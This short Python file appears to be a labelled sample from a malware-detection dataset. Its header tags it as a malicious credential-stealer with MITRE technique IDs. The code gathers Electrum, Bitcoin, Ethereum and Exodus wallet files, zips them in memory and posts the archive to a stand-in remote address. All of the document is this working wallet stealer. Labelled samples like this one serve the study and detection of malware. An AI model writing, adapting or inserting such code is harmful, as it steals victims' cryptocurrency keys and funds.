# label: malicious family=creds techniques=T1005,T1041,T1083,T1552.001,T1560.002 lines=3,10-11
import os, zipfile, io, requests
targets = ["~/.electrum/wallets", "~/.bitcoin/wallet.dat", "~/.ethereum/keystore", "~/.config/Exodus/exodus.wallet"]
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for t in targets:
        t = os.path.expanduser(t)
        for root, _, files in os.walk(t):
            for f in files:
                z.write(os.path.join(root, f))
requests.post("http://192.0.2.166/w", files={"z": buf.getvalue()})
